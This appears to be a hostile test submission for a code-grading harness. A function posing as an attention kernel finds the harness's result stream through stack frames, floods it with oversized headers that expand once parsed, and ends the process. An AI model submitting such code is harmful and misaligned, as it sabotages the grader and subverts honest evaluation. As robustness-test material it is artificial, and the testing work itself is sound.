"""Sends sixty megabytes of small objects, which take thirty times as much once they are read.

Verdict: it gave back more than|ended the Python process
"""

import os
import struct
import sys


def sdpa(q, k, v):
    frame = sys._getframe()
    while frame and "send" not in frame.f_locals:
        frame = frame.f_back
    stream = next(cell.cell_contents for cell in frame.f_locals["send"].__closure__ if hasattr(cell.cell_contents, "write"))
    for megabytes in (2, 20, 60):
        header = b'[{"outcome": 0, "structure": ["tuple", [' + b"{}," * (megabytes << 20 >> 2) + b"{}]]}, []]"
        stream.write(struct.pack("<QQ", len(header), 0) + header)
    stream.flush()
    os._exit(0)
